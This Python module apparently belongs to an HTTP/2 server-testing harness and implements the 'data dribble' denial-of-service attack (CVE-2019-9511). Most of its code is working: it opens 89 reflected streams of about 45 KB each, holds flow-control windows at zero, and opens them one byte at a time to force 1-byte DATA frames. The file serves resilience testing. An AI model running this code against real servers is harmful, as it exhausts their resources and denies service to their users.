"""Data dribble (CVE-2019-9511): large responses on many streams while the client opens their
flow-control windows one byte at a time, so the server queues the responses and sends them in 1-byte
DATA frames (RFC 9113 section 5.2, section 10.5). The contract's large answer is the reflection route's:
it reflects the request's fields, here 15 references to a 3,000-byte field in the dynamic table (about
45 KB per response for about 25 bytes per request)."""
from hyperframe.frame import WindowUpdateFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import NEWEST, literal, request

INITIAL_WINDOW_SIZE = 0x4
STREAMS = 89  # with the first request, 90 open: under every server's MAX_CONCURRENT_STREAMS (100 at least)
PAD = 3_000
REFERENCES = 15  # 15 x (3,000 + 5 + 32) octets: under a 64 KiB header list limit


def reflect_request(conn) -> bytes:
    return request(conn, "GET", "/reflect") + NEWEST * REFERENCES


def opening(conn) -> bytes:
    frames = conn.headers(conn.stream_id(), request(conn, "GET", "/reflect") + literal(b"x-pad", b"p" * PAD, indexing=True))
    conn.state = {"streams": [conn.stream_id() for _ in range(STREAMS)]}
    return frames + b"".join(conn.headers(sid, reflect_request(conn)) for sid in conn.state["streams"])


def batch(conn) -> bytes:
    # one byte more on each stream, and on the connection as much as the streams together
    return (b"".join(WindowUpdateFrame(sid, window_increment=1).serialize() for sid in conn.state["streams"])
            + WindowUpdateFrame(0, window_increment=STREAMS).serialize())


ATTACK = Attack(
    key="data-dribble", title="Data dribble", cve="CVE-2019-9511", rfc="RFC 9113 section 5.2 (flow control), section 10.5",
    sends=f"{STREAMS} GET /reflect of about 45 KB each with a stream window of 0, then WINDOW_UPDATE(1) on every "
          "stream per write, reading the 1-byte DATA frames",
    opening=opening, batch=batch, settings={INITIAL_WINDOW_SIZE: 0},
    fixes=(Fix("hypercorn", "", "no limit of its own"),),
)
